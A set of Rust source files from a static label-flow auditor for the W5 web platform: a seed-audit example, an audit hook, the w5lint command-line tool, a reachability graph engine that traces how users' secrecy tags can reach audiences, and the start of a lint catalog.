//! Build the seed world (the six canonical apps plus the malice catalog),
//! capture its configuration snapshot, audit it, and write the snapshot to
//! a JSON file for `w5lint`.
//!
//! This is an *example* rather than a binary so it can depend on
//! `w5-apps` (a dev-dependency — Cargo does not let plain binaries use
//! those). CI runs it to produce the snapshot that the `w5lint` gate then
//! checks:
//!
//! ```text
//! cargo run -p w5-analyze --example seed_audit -- target/seed-snapshot.json
//! cargo run -p w5-analyze --bin w5lint -- --deny warning target/seed-snapshot.json
//! ```
//!
//! Exits nonzero if the seed configuration has any finding at all — the
//! seed world is the reference deployment and must audit clean.

use std::process::ExitCode;
use w5_analyze::{AuditExt, ConfigSnapshot};
use w5_platform::{GrantScope, Platform};

fn main() -> ExitCode {
    let out = std::env::args()
        .nth(1)
        .unwrap_or_else(|| "target/seed-snapshot.json".to_string());

    let platform = Platform::new_default("w5-seed");
    w5_apps::install_all(&platform);

    // A representative population: accounts, enrollment, delegations, and
    // declassifier grants of every builtin kind.
    let users: Vec<_> = ["alice", "bob", "carol"]
        .iter()
        .map(|name| platform.accounts.register(name, "pw").expect("register"))
        .collect();
    for u in &users {
        for app in ["devA/photos", "devB/blog", "devC/social"] {
            platform.policies.enroll(u.id, app);
            platform.policies.delegate_write(u.id, app);
        }
    }
    platform.policies.grant_declassifier(
        users[0].id,
        "friends-only",
        GrantScope::App("devB/blog".into()),
    );
    platform.policies.grant_declassifier(users[1].id, "public-read", GrantScope::AllApps);
    platform.policies.grant_declassifier(
        users[2].id,
        "group-only",
        GrantScope::App("devC/social".into()),
    );

    let snapshot = ConfigSnapshot::capture(&platform);
    let json = serde_json::to_string_pretty(&snapshot).expect("snapshot serializes");
    if let Some(dir) = std::path::Path::new(&out).parent() {
        if !dir.as_os_str().is_empty() {
            std::fs::create_dir_all(dir).expect("create output dir");
        }
    }
    std::fs::write(&out, &json).expect("write snapshot");
    println!("seed_audit: wrote {} ({} bytes)", out, json.len());

    let report = platform.audit();
    print!("{}", report.render_human());
    if report.is_clean() {
        ExitCode::SUCCESS
    } else {
        ExitCode::from(1)
    }
}
