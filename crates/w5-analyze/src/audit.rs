//! Platform-facing audit entry points.
//!
//! [`AuditExt`] bolts `audit()` onto [`Platform`] without a dependency
//! cycle (w5-platform cannot depend on w5-analyze). `audit()` captures a
//! snapshot, runs the flow analysis and every lint, and returns an
//! [`AuditReport`]. [`AuditExt::audit_recorded`] additionally writes each
//! finding into the w5-obs flow ledger as an `AuditFinding` event, and
//! [`AuditExt::install_app_audited`] is the registration-time hook: it
//! publishes + installs an app and immediately re-audits the whole
//! configuration, so a malicious manifest is flagged the moment it lands.

use crate::graph::Analysis;
use crate::lints::{run_lints, Finding, Severity};
use crate::snapshot::ConfigSnapshot;
use serde::Serialize;
use std::fmt::Write as _;
use std::sync::Arc;
use w5_obs::{EventKind, ObsLabel};
use w5_platform::{AppManifest, Platform, RegistryError, W5App};

/// The outcome of one configuration audit.
#[derive(Clone, Debug, Serialize)]
pub struct AuditReport {
    /// Platform name the audit ran against.
    pub platform: String,
    /// Tags analyzed.
    pub tags_analyzed: usize,
    /// All findings, most severe first.
    pub findings: Vec<Finding>,
}

impl AuditReport {
    /// Run the full pipeline over an already-captured snapshot.
    pub fn from_snapshot(snap: ConfigSnapshot) -> AuditReport {
        let analysis = Analysis::analyze(snap);
        let findings = run_lints(&analysis);
        AuditReport {
            platform: analysis.snapshot.platform.clone(),
            tags_analyzed: analysis.snapshot.tags.len(),
            findings,
        }
    }

    /// The most severe finding present.
    pub fn worst(&self) -> Option<Severity> {
        self.findings.iter().map(|f| f.severity).max()
    }

    /// No findings at all.
    pub fn is_clean(&self) -> bool {
        self.findings.is_empty()
    }

    /// Would a `--deny threshold` gate pass? True when no finding is at
    /// or above `threshold`.
    pub fn passes(&self, threshold: Severity) -> bool {
        self.findings.iter().all(|f| f.severity < threshold)
    }

    /// Findings with a given code.
    pub fn with_code(&self, code: &str) -> Vec<&Finding> {
        self.findings.iter().filter(|f| f.code == code).collect()
    }

    /// Pretty JSON encoding.
    pub fn to_json(&self) -> String {
        serde_json::to_string_pretty(self).expect("report serializes")
    }

    /// Human-readable rendering, one line per finding plus a summary.
    pub fn render_human(&self) -> String {
        let mut s = String::new();
        let _ = writeln!(
            s,
            "w5lint: audited platform {:?} ({} tags analyzed)",
            self.platform, self.tags_analyzed
        );
        for f in &self.findings {
            let _ = writeln!(
                s,
                "{}[{}] {} ({}): {}",
                f.code,
                f.severity,
                f.subject,
                f.name,
                f.message
            );
        }
        let (mut e, mut w, mut i) = (0usize, 0usize, 0usize);
        for f in &self.findings {
            match f.severity {
                Severity::Error => e += 1,
                Severity::Warning => w += 1,
                Severity::Info => i += 1,
            }
        }
        if self.findings.is_empty() {
            let _ = writeln!(s, "clean: no findings");
        } else {
            let _ = writeln!(s, "{e} error(s), {w} warning(s), {i} info");
        }
        s
    }
}

/// `Platform::audit()` and friends, as an extension trait.
pub trait AuditExt {
    /// Capture the configuration and run the full static audit.
    fn audit(&self) -> AuditReport;

    /// [`AuditExt::audit`], plus one `AuditFinding` ledger event per
    /// finding. Error-severity findings are denial events: the ledger
    /// never samples them away.
    fn audit_recorded(&self) -> AuditReport;

    /// Registration-time hook: publish `manifest`, install `app` under
    /// the manifest's key, then audit the resulting configuration and
    /// record the findings. The app stays installed regardless of the
    /// audit outcome — the report tells the operator what changed.
    fn install_app_audited(
        &self,
        manifest: AppManifest,
        app: Arc<dyn W5App>,
    ) -> Result<AuditReport, RegistryError>;
}

impl AuditExt for Platform {
    fn audit(&self) -> AuditReport {
        AuditReport::from_snapshot(ConfigSnapshot::capture(self))
    }

    fn audit_recorded(&self) -> AuditReport {
        let report = self.audit();
        for f in &report.findings {
            w5_obs::record(
                &ObsLabel::empty(),
                EventKind::AuditFinding {
                    code: f.code.to_string(),
                    severity: f.severity.name().to_string(),
                    subject: f.subject.clone(),
                    message: f.message.clone(),
                },
            );
        }
        report
    }

    fn install_app_audited(
        &self,
        manifest: AppManifest,
        app: Arc<dyn W5App>,
    ) -> Result<AuditReport, RegistryError> {
        let key = manifest.key();
        self.apps.publish(manifest)?;
        self.install_app(&key, app);
        Ok(self.audit_recorded())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use w5_obs::Ledger;
    use w5_platform::{GrantScope, Platform, PlatformConfig};

    #[test]
    fn clean_platform_audits_clean() {
        let p = Platform::new_default("audit-clean");
        p.accounts.register("alice", "pw").unwrap();
        let report = p.audit();
        assert!(report.is_clean(), "unexpected findings: {:#?}", report.findings);
        assert!(report.passes(Severity::Info));
        assert_eq!(report.worst(), None);
    }

    #[test]
    fn unenforced_platform_fails_the_gate() {
        let p = Platform::new(
            "audit-off",
            PlatformConfig { enforce_ifc: false, ..Default::default() },
        );
        p.accounts.register("alice", "pw").unwrap();
        let report = p.audit();
        assert_eq!(report.worst(), Some(Severity::Error));
        assert!(!report.passes(Severity::Error));
        assert_eq!(report.with_code("W5A001").len(), 1);
    }

    #[test]
    fn findings_are_recorded_in_the_ledger() {
        let ledger = Arc::new(Ledger::new());
        let p = Platform::new(
            "audit-ledger",
            PlatformConfig { enforce_ifc: false, ..Default::default() },
        );
        let alice = p.accounts.register("alice", "pw").unwrap();
        p.policies.grant_declassifier(alice.id, "missing-declass", GrantScope::AllApps);
        let report = {
            let _scope = w5_obs::scoped(Arc::clone(&ledger));
            p.audit_recorded()
        };
        assert!(report.with_code("W5A001").len() == 1);
        assert!(report.with_code("W5A007").len() == 1);
        let view = ledger.view(&ObsLabel::empty());
        let audit_events: Vec<_> = view
            .events
            .iter()
            .filter_map(|e| match &e.kind {
                EventKind::AuditFinding { code, severity, .. } => {
                    Some((code.clone(), severity.clone()))
                }
                _ => None,
            })
            .collect();
        assert!(audit_events.contains(&("W5A001".to_string(), "error".to_string())));
        assert!(audit_events.contains(&("W5A007".to_string(), "warning".to_string())));
    }

    #[test]
    fn report_renders_and_serializes() {
        let p = Platform::new(
            "audit-render",
            PlatformConfig { enforce_ifc: false, ..Default::default() },
        );
        p.accounts.register("alice", "pw").unwrap();
        let report = p.audit();
        let human = report.render_human();
        assert!(human.contains("W5A001[error]"));
        assert!(human.contains("1 error(s)"));
        let json = report.to_json();
        assert!(json.contains("\"W5A001\""), "JSON should carry the code: {json}");
        assert!(json.contains("\"error\""), "JSON should carry the severity: {json}");
    }
}
