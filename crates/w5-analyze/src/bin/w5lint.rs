//! w5lint — static label-flow auditor CLI.
//!
//! Reads one or more `ConfigSnapshot` JSON files (produced by
//! `ConfigSnapshot::capture`, e.g. via the `seed_audit` example or an
//! operator's export job), runs the full flow analysis and lint catalog,
//! and prints findings.
//!
//! ```text
//! w5lint [--json] [--reach] [--deny info|warning|error] [--list] SNAPSHOT.json...
//! ```
//!
//! Exit codes: `0` = every snapshot passes the `--deny` gate (default
//! gate: error), `1` = at least one finding at or above the gate,
//! `2` = usage or input error. Designed for CI: the exit code is the
//! verdict, stdout is the evidence.

#![forbid(unsafe_code)]

use std::process::ExitCode;
use w5_analyze::{AuditReport, ConfigSnapshot, Severity, LINT_CATALOG};

const USAGE: &str = "usage: w5lint [--json] [--reach] [--deny info|warning|error] [--list] SNAPSHOT.json...

  --json    emit the full report as JSON instead of human-readable lines
  --reach   also print per-tag reachability (which audiences each tag can reach)
  --deny S  exit nonzero when any finding has severity >= S (default: error)
  --list    print the lint catalog and exit";

fn main() -> ExitCode {
    let mut json = false;
    let mut reach = false;
    let mut deny = Severity::Error;
    let mut files: Vec<String> = Vec::new();

    let mut argv = std::env::args().skip(1);
    while let Some(arg) = argv.next() {
        match arg.as_str() {
            "--json" => json = true,
            "--reach" => reach = true,
            "--list" => {
                for (code, name, severity, desc) in LINT_CATALOG {
                    println!("{code}  {severity:<7}  {name:<22} {desc}");
                }
                return ExitCode::SUCCESS;
            }
            "--deny" => {
                let Some(v) = argv.next() else {
                    eprintln!("w5lint: --deny requires a severity\n{USAGE}");
                    return ExitCode::from(2);
                };
                match v.parse::<Severity>() {
                    Ok(s) => deny = s,
                    Err(e) => {
                        eprintln!("w5lint: {e}\n{USAGE}");
                        return ExitCode::from(2);
                    }
                }
            }
            "--help" | "-h" => {
                println!("{USAGE}");
                return ExitCode::SUCCESS;
            }
            other if other.starts_with('-') => {
                eprintln!("w5lint: unknown flag {other:?}\n{USAGE}");
                return ExitCode::from(2);
            }
            file => files.push(file.to_string()),
        }
    }

    if files.is_empty() {
        eprintln!("w5lint: no snapshot files given\n{USAGE}");
        return ExitCode::from(2);
    }

    let mut gate_failed = false;
    for file in &files {
        let raw = match std::fs::read_to_string(file) {
            Ok(r) => r,
            Err(e) => {
                eprintln!("w5lint: cannot read {file}: {e}");
                return ExitCode::from(2);
            }
        };
        let snap: ConfigSnapshot = match serde_json::from_str(&raw) {
            Ok(s) => s,
            Err(e) => {
                eprintln!("w5lint: {file} is not a valid snapshot: {e}");
                return ExitCode::from(2);
            }
        };
        // Reachability must be computed before the snapshot moves into the
        // report; clone only when the caller asked for --reach output.
        let reach_lines = if reach { Some(render_reach(&snap)) } else { None };
        let report = AuditReport::from_snapshot(snap);
        if json {
            println!("{}", report.to_json());
        } else {
            if files.len() > 1 {
                println!("== {file} ==");
            }
            print!("{}", report.render_human());
            if let Some(lines) = reach_lines {
                print!("{lines}");
            }
        }
        if !report.passes(deny) {
            gate_failed = true;
        }
    }

    if gate_failed {
        ExitCode::from(1)
    } else {
        ExitCode::SUCCESS
    }
}

/// Per-tag reachability rendering: one line per (tag, exit).
fn render_reach(snap: &ConfigSnapshot) -> String {
    use std::fmt::Write as _;
    let analysis = w5_analyze::Analysis::analyze(snap.clone());
    let mut s = String::new();
    let _ = writeln!(s, "reachability ({} tags):", analysis.snapshot.tags.len());
    for t in &analysis.snapshot.tags {
        let exits = analysis.exits(t.raw);
        if exits.is_empty() {
            let _ = writeln!(s, "  {}: unreachable (no exit path)", t.name);
            continue;
        }
        for e in exits {
            let app = e.app.as_deref().unwrap_or("*");
            let via = if e.via.is_empty() {
                if e.unguarded { "UNGUARDED".to_string() } else { "owner-session".to_string() }
            } else {
                e.via.join(" -> ")
            };
            let _ = writeln!(s, "  {}: -> {} via app {} [{}]", t.name, e.class.name(), app, via);
        }
    }
    s
}
