//! The label-flow graph and its reachability engine.
//!
//! Nodes are the principals of the deployed configuration: secrecy tags,
//! app processes, declassifier consultations (one per owner × declassifier
//! × grant scope), and the five perimeter *exit classes* — the audience a
//! byte reaches once it leaves the platform. Edges are flows the runtime
//! *would permit*: tag raises into app processes (Flume rule: `t+ ∈ Ô`),
//! owner-session clearance, grant-enabled declassifier consultations, and
//! declassifier-approved exports.
//!
//! [`FlowGraph::reach`] runs a worklist fixed point per secrecy tag. States
//! are `(node, app-context)` pairs — the app context is the last app
//! process the taint flowed through, because grants are per-app: a tag may
//! exit via `friends-only` on `devB/blog` while having no path at all via
//! `mal/exfiltrator`. The result is the set of [`ExitInfo`]s: which
//! audience classes the tag can reach, through which app and declassifier
//! chain, and whether the path bypassed the perimeter entirely.
//!
//! Soundness contract (see `DESIGN.md` §12): the graph may
//! **over-approximate** reachability (an edge exists whenever the runtime
//! *could* permit the flow), but must never claim a tag is unreachable for
//! an audience the runtime would release it to.

use crate::snapshot::ConfigSnapshot;
use serde::{Deserialize, Serialize};
use std::collections::{BTreeMap, HashMap, HashSet, VecDeque};

/// The audience class of a perimeter exit.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub enum ExitClass {
    /// The data owner's own authenticated session.
    Owner,
    /// Viewers on the owner's friend list.
    Friends,
    /// Members of one of the owner's groups.
    Group,
    /// Authenticated viewers with no relationship to the owner.
    Strangers,
    /// Unauthenticated viewers.
    Anonymous,
}

impl ExitClass {
    /// All classes, narrowest audience first.
    pub const ALL: [ExitClass; 5] = [
        ExitClass::Owner,
        ExitClass::Friends,
        ExitClass::Group,
        ExitClass::Strangers,
        ExitClass::Anonymous,
    ];

    /// Stable lowercase name.
    pub fn name(self) -> &'static str {
        match self {
            ExitClass::Owner => "owner",
            ExitClass::Friends => "friends",
            ExitClass::Group => "group",
            ExitClass::Strangers => "strangers",
            ExitClass::Anonymous => "anonymous",
        }
    }
}

/// A node in the flow graph.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum NodeKind {
    /// A secrecy tag (raw id) — the source of every query.
    Tag(u64),
    /// An app process (registry key).
    App(String),
    /// A declassifier consultation enabled by one owner's grant.
    Declass {
        /// Tag owner's user id.
        owner: u64,
        /// Declassifier name.
        name: String,
        /// Grant scope: an app key, or `"*"` for all apps.
        scope: String,
    },
    /// A perimeter exit to one audience class.
    Exit(ExitClass),
}

/// Why an edge exists.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub enum EdgeKind {
    /// The app can raise the tag into its label (`t+` available), so the
    /// tagged data can enter its process.
    Raise,
    /// Perimeter case 1: the viewer owns the tag.
    OwnerSession,
    /// A policy grant lets the perimeter consult this declassifier for
    /// this app's responses.
    Grant,
    /// The declassifier's probed policy releases to this audience class.
    Export,
    /// No guard at all: IFC is off, or the tag's `t-` is globally held so
    /// any process can strip it before the perimeter looks.
    Unguarded,
}

/// A directed edge, optionally restricted to one tag.
#[derive(Clone, Debug)]
pub struct Edge {
    /// Source node index.
    pub from: usize,
    /// Destination node index.
    pub to: usize,
    /// Why the flow is permitted.
    pub kind: EdgeKind,
    /// If set, the edge only carries this tag.
    pub for_tag: Option<u64>,
}

/// One way a tag can leave the platform.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
pub struct ExitInfo {
    /// Audience class reached.
    pub class: ExitClass,
    /// App the taint flowed through; `None` means the path is valid
    /// through *any* app (owner session, or a perimeter bypass).
    pub app: Option<String>,
    /// Declassifier chain that approved the export, outermost first.
    /// Empty for owner sessions and unguarded paths.
    pub via: Vec<String>,
    /// True when the path bypassed the perimeter entirely.
    pub unguarded: bool,
}

/// The flow graph for one configuration snapshot.
pub struct FlowGraph {
    /// Node table.
    pub nodes: Vec<NodeKind>,
    /// Edge table.
    pub edges: Vec<Edge>,
    out: Vec<Vec<usize>>,
    tag_node: HashMap<u64, usize>,
    declass_chain: HashMap<String, Vec<String>>,
}

impl FlowGraph {
    /// Build the flow graph for a snapshot. Pure function of the snapshot.
    pub fn build(snap: &ConfigSnapshot) -> FlowGraph {
        let mut g = FlowGraph {
            nodes: Vec::new(),
            edges: Vec::new(),
            out: Vec::new(),
            tag_node: HashMap::new(),
            declass_chain: snap
                .declassifiers
                .iter()
                .map(|d| (d.name.clone(), d.chain.clone()))
                .collect(),
        };

        let mut exit_node: BTreeMap<ExitClass, usize> = BTreeMap::new();
        for c in ExitClass::ALL {
            exit_node.insert(c, g.add_node(NodeKind::Exit(c)));
        }
        let mut app_node: BTreeMap<String, usize> = BTreeMap::new();
        for a in &snap.apps {
            app_node.insert(a.key.clone(), g.add_node(NodeKind::App(a.key.clone())));
        }
        for t in &snap.tags {
            let n = g.add_node(NodeKind::Tag(t.raw));
            g.tag_node.insert(t.raw, n);
        }

        // Raise edges: which app processes can tagged data enter?
        for t in &snap.tags {
            let tn = g.tag_node[&t.raw];
            if t.global_plus || t.global_minus || !snap.enforce_ifc {
                // ExportProtect tags: t+ is global, every app can raise.
                // Globally-strippable tags and unenforced platforms flow
                // everywhere too.
                for &an in app_node.values() {
                    g.add_edge(tn, an, EdgeKind::Raise, Some(t.raw));
                }
            } else if t.kind == "read" {
                // ReadProtect tags: only read-delegated apps can hold the
                // data at all.
                if let Some(owner) = snap.owner_of(t.raw) {
                    for key in &owner.read_delegations {
                        if let Some(&an) = app_node.get(key) {
                            g.add_edge(tn, an, EdgeKind::Raise, Some(t.raw));
                        }
                    }
                }
            }
            // WriteProtect tags with creator-held t+: nobody else can even
            // label data with them, and nobody needs to — if t- is global
            // the Unguarded exit below captures the real exposure.
        }

        // Perimeter bypasses: no enforcement, or globally-strippable tags.
        for t in &snap.tags {
            let tn = g.tag_node[&t.raw];
            if !snap.enforce_ifc || t.global_minus {
                for c in ExitClass::ALL {
                    g.add_edge(tn, exit_node[&c], EdgeKind::Unguarded, Some(t.raw));
                }
            }
        }

        // Owner sessions: perimeter case 1 clears a viewer's own tags in
        // any app. (Over-approximates for read-protected tags, which only
        // *enter* delegated apps; the Raise edges bound actual exposure.)
        for u in &snap.users {
            for raw in [Some(u.export_tag), u.read_tag].into_iter().flatten() {
                if let Some(&tn) = g.tag_node.get(&raw) {
                    g.add_edge(tn, exit_node[&ExitClass::Owner], EdgeKind::OwnerSession, Some(raw));
                }
            }
        }

        // Grants: perimeter case 2. An owner's grant lets the perimeter
        // consult the declassifier for responses from in-scope apps; the
        // declassifier's probed breadth decides which exits open.
        for u in &snap.users {
            let owner_tags: Vec<u64> =
                [Some(u.export_tag), u.read_tag].into_iter().flatten().collect();
            for grant in &u.grants {
                let Some(decl) =
                    snap.declassifiers.iter().find(|d| d.name == grant.declassifier)
                else {
                    continue; // dangling grant: W5A007's job, no edge
                };
                let scope = grant.app.clone().unwrap_or_else(|| "*".to_string());
                let dn = g.add_node(NodeKind::Declass {
                    owner: u.id,
                    name: decl.name.clone(),
                    scope: scope.clone(),
                });
                let in_scope: Vec<usize> = match &grant.app {
                    Some(key) => app_node.get(key).copied().into_iter().collect(),
                    None => app_node.values().copied().collect(),
                };
                for an in in_scope {
                    for &raw in &owner_tags {
                        g.add_edge(an, dn, EdgeKind::Grant, Some(raw));
                    }
                }
                for (class, open) in [
                    (ExitClass::Owner, decl.breadth.owner),
                    (ExitClass::Friends, decl.breadth.friends),
                    (ExitClass::Group, decl.breadth.group),
                    (ExitClass::Strangers, decl.breadth.strangers),
                    (ExitClass::Anonymous, decl.breadth.anonymous),
                ] {
                    if open {
                        g.add_edge(dn, exit_node[&class], EdgeKind::Export, None);
                    }
                }
            }
        }

        g
    }

    fn add_node(&mut self, kind: NodeKind) -> usize {
        self.nodes.push(kind);
        self.out.push(Vec::new());
        self.nodes.len() - 1
    }

    fn add_edge(&mut self, from: usize, to: usize, kind: EdgeKind, for_tag: Option<u64>) {
        self.edges.push(Edge { from, to, kind, for_tag });
        self.out[from].push(self.edges.len() - 1);
    }

    /// Fixed-point reachability for one secrecy tag: every way it can exit
    /// the platform. States are `(node, app-context)`; the worklist runs
    /// until no new state is discovered.
    pub fn reach(&self, tag: u64) -> Vec<ExitInfo> {
        let Some(&start) = self.tag_node.get(&tag) else {
            return Vec::new();
        };
        let mut exits: Vec<ExitInfo> = Vec::new();
        let mut seen: HashSet<(usize, Option<usize>)> = HashSet::new();
        let mut work: VecDeque<(usize, Option<usize>)> = VecDeque::new();
        seen.insert((start, None));
        work.push_back((start, None));

        while let Some((node, ctx)) = work.pop_front() {
            for &ei in &self.out[node] {
                let e = &self.edges[ei];
                if e.for_tag.is_some() && e.for_tag != Some(tag) {
                    continue;
                }
                match &self.nodes[e.to] {
                    NodeKind::Exit(class) => {
                        let via = match &self.nodes[e.from] {
                            NodeKind::Declass { name, .. } => self
                                .declass_chain
                                .get(name)
                                .cloned()
                                .unwrap_or_else(|| vec![name.clone()]),
                            _ => Vec::new(),
                        };
                        let app = ctx.and_then(|a| match &self.nodes[a] {
                            NodeKind::App(key) => Some(key.clone()),
                            _ => None,
                        });
                        let info = ExitInfo {
                            class: *class,
                            app,
                            via,
                            unguarded: e.kind == EdgeKind::Unguarded,
                        };
                        if !exits.contains(&info) {
                            exits.push(info);
                        }
                    }
                    NodeKind::App(_) => {
                        let next = (e.to, Some(e.to));
                        if seen.insert(next) {
                            work.push_back(next);
                        }
                    }
                    _ => {
                        let next = (e.to, ctx);
                        if seen.insert(next) {
                            work.push_back(next);
                        }
                    }
                }
            }
        }

        exits.sort();
        exits
    }

    /// Human-readable node name (debugging and reports).
    pub fn describe(&self, idx: usize, snap: &ConfigSnapshot) -> String {
        match &self.nodes[idx] {
            NodeKind::Tag(raw) => format!("tag:{}", snap.tag_name(*raw)),
            NodeKind::App(key) => format!("app:{key}"),
            NodeKind::Declass { owner, name, scope } => {
                let who = snap
                    .users
                    .iter()
                    .find(|u| u.id == *owner)
                    .map(|u| u.username.clone())
                    .unwrap_or_else(|| format!("user:{owner}"));
                format!("declass:{name}[owner={who},scope={scope}]")
            }
            NodeKind::Exit(c) => format!("exit:{}", c.name()),
        }
    }
}

/// A full analysis: the snapshot, its flow graph, and per-tag reachability.
pub struct Analysis {
    /// The configuration analyzed.
    pub snapshot: ConfigSnapshot,
    /// The flow graph built from it.
    pub graph: FlowGraph,
    /// For every tag: all the ways it can exit, sorted and deduplicated.
    pub reach: BTreeMap<u64, Vec<ExitInfo>>,
}

impl Analysis {
    /// Build the graph and run the fixed point for every tag.
    pub fn analyze(snapshot: ConfigSnapshot) -> Analysis {
        let graph = FlowGraph::build(&snapshot);
        let reach = snapshot.tags.iter().map(|t| (t.raw, graph.reach(t.raw))).collect();
        Analysis { snapshot, graph, reach }
    }

    /// All the ways `tag` can exit (empty slice for unknown tags).
    pub fn exits(&self, tag: u64) -> &[ExitInfo] {
        self.reach.get(&tag).map(Vec::as_slice).unwrap_or(&[])
    }

    /// Would the static model permit `tag` to reach any of `classes`
    /// through responses produced by `app`? Paths with `app: None`
    /// (owner sessions, perimeter bypasses) apply to every app.
    pub fn allowed(&self, tag: u64, app: &str, classes: &[ExitClass]) -> bool {
        self.exits(tag).iter().any(|e| {
            classes.contains(&e.class)
                && match &e.app {
                    None => true,
                    Some(a) => a == app,
                }
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::snapshot::ConfigSnapshot;
    use w5_platform::{GrantScope, Platform, PlatformConfig};

    fn world() -> std::sync::Arc<Platform> {
        let p = Platform::new_default("graph-test");
        p.apps
            .publish(w5_platform::AppManifest {
                name: "blog".into(),
                developer: "devb".into(),
                version: 1,
                description: "t".into(),
                module_slots: vec![],
                imports: vec![],
                forked_from: None,
                source: Some("fn main() {}".into()),
            })
            .unwrap();
        p.apps
            .publish(w5_platform::AppManifest {
                name: "exfil".into(),
                developer: "mal".into(),
                version: 1,
                description: "t".into(),
                module_slots: vec![],
                imports: vec![],
                forked_from: None,
                source: None,
            })
            .unwrap();
        p
    }

    #[test]
    fn ungranted_tag_reaches_only_owner() {
        let p = world();
        let alice = p.accounts.register("alice", "pw").unwrap();
        let a = Analysis::analyze(ConfigSnapshot::capture(&p));
        let exits = a.exits(alice.export_tag.raw());
        assert_eq!(exits.len(), 1);
        assert_eq!(exits[0].class, ExitClass::Owner);
        assert_eq!(exits[0].app, None);
        assert!(!exits[0].unguarded);
        assert!(a.allowed(alice.export_tag.raw(), "devb/blog", &[ExitClass::Owner]));
        assert!(!a.allowed(alice.export_tag.raw(), "devb/blog", &[ExitClass::Friends]));
    }

    #[test]
    fn app_scoped_grant_opens_only_that_app() {
        let p = world();
        let alice = p.accounts.register("alice", "pw").unwrap();
        p.policies.grant_declassifier(
            alice.id,
            "friends-only",
            GrantScope::App("devb/blog".into()),
        );
        let a = Analysis::analyze(ConfigSnapshot::capture(&p));
        let e = alice.export_tag.raw();
        assert!(a.allowed(e, "devb/blog", &[ExitClass::Friends]));
        assert!(!a.allowed(e, "mal/exfil", &[ExitClass::Friends]));
        assert!(!a.allowed(e, "devb/blog", &[ExitClass::Strangers]));
        // The friends exit records the app and the declassifier chain.
        let f = a
            .exits(e)
            .iter()
            .find(|x| x.class == ExitClass::Friends)
            .expect("friends exit");
        assert_eq!(f.app.as_deref(), Some("devb/blog"));
        assert_eq!(f.via, vec!["friends-only".to_string()]);
    }

    #[test]
    fn all_apps_grant_opens_every_app() {
        let p = world();
        let alice = p.accounts.register("alice", "pw").unwrap();
        p.policies.grant_declassifier(alice.id, "public-read", GrantScope::AllApps);
        let a = Analysis::analyze(ConfigSnapshot::capture(&p));
        let e = alice.export_tag.raw();
        for app in ["devb/blog", "mal/exfil"] {
            assert!(a.allowed(e, app, &[ExitClass::Anonymous]));
            assert!(a.allowed(e, app, &[ExitClass::Strangers]));
        }
    }

    #[test]
    fn unenforced_platform_leaks_everything_unguarded() {
        let p = Platform::new("off", PlatformConfig { enforce_ifc: false, ..Default::default() });
        let alice = p.accounts.register("alice", "pw").unwrap();
        let a = Analysis::analyze(ConfigSnapshot::capture(&p));
        let exits = a.exits(alice.export_tag.raw());
        assert!(exits.iter().any(|x| x.class == ExitClass::Anonymous && x.unguarded));
        assert!(a.allowed(alice.export_tag.raw(), "any/app", &[ExitClass::Anonymous]));
    }

    #[test]
    fn dangling_grant_adds_no_exit() {
        let p = world();
        let alice = p.accounts.register("alice", "pw").unwrap();
        p.policies.grant_declassifier(alice.id, "no-such-declassifier", GrantScope::AllApps);
        let a = Analysis::analyze(ConfigSnapshot::capture(&p));
        let exits = a.exits(alice.export_tag.raw());
        assert_eq!(exits.len(), 1, "only the owner session should remain");
        assert_eq!(exits[0].class, ExitClass::Owner);
    }
}
