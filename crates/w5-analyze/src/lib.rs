//! # w5-analyze — static label-flow auditor for W5 configurations
//!
//! The W5 runtime (paper: *World Wide Web Without Walls*, HotNets 2007)
//! enforces information flow control dynamically: every response crosses a
//! perimeter that checks secrecy tags against user policy. This crate
//! answers the question the runtime cannot: **before any request runs**,
//! is the deployed configuration leak-free — and if not, which external
//! principals can each user's data reach, through which declassifier
//! chains?
//!
//! The pipeline:
//!
//! 1. [`ConfigSnapshot::capture`] freezes the security-relevant
//!    configuration — tag universe, accounts, policies, app catalog,
//!    declassifier catalog (with probed export breadth), and a label
//!    census of both stores — into one serializable value.
//! 2. [`FlowGraph::build`] turns it into an explicit graph whose edges
//!    are exactly the flows the runtime would permit, and
//!    [`FlowGraph::reach`] runs a per-tag fixed point producing
//!    [`ExitInfo`]s: audience class × app × declassifier chain.
//! 3. [`run_lints`] checks eight configuration smells (stable codes
//!    `W5A001`–`W5A008`, see [`LINT_CATALOG`]).
//!
//! Three front ends consume this: the `w5lint` CLI binary (JSON and human
//! output, CI exit codes), the [`AuditExt`] platform hook (registration-
//! time audits recorded into the w5-obs ledger), and the differential
//! oracle in `w5-sim`, which cross-checks every static verdict against
//! the live perimeter.
//!
//! Soundness contract: the analysis may **over-approximate** reachability
//! but must never report a configuration clean that the runtime would let
//! leak (`DESIGN.md` §12).

#![forbid(unsafe_code)]

pub mod audit;
pub mod graph;
pub mod lints;
pub mod snapshot;

pub use audit::{AuditExt, AuditReport};
pub use graph::{Analysis, EdgeKind, Edge, ExitClass, ExitInfo, FlowGraph, NodeKind};
pub use lints::{run_lints, Finding, Severity, LINT_CATALOG};
pub use snapshot::{
    probe_breadth, AppSnap, Breadth, CensusEntry, ConfigSnapshot, DeclassSnap, GrantSnap,
    LabelSnap, TagSnap, UserSnap,
};
