//! The lint catalog: eight configuration checks with stable codes.
//!
//! Each lint inspects the [`Analysis`] (snapshot + flow graph + per-tag
//! reachability) and emits [`Finding`]s. Codes are stable across releases
//! so CI policies can pin them; severities encode how directly the
//! condition translates into a leak:
//!
//! | code   | name                 | severity | condition |
//! |--------|----------------------|----------|-----------|
//! | W5A001 | unguarded-exit       | error    | IFC enforcement disabled: tags reach exits with no perimeter check |
//! | W5A002 | declass-widening     | error    | a wrapper declassifier releases to audiences its inner policy denies |
//! | W5A003 | capability-escalation| error    | stored rows carry a secrecy tag whose `t-` is globally held |
//! | W5A004 | dead-tag             | info     | a tag belongs to no account and labels no stored data |
//! | W5A005 | ambient-integrity    | warning  | stored rows carry an integrity tag whose `t+` is globally held |
//! | W5A006 | rate-limit-bypass    | warning  | a rate-limited grant has a sibling grant releasing the same audiences unmetered |
//! | W5A007 | dangling-grant       | warning  | a grant names a declassifier absent from the registry |
//! | W5A008 | covert-aggregate     | info     | a table mixes public and secret rows (counting-channel smell, paper §3.5) |

use crate::graph::Analysis;
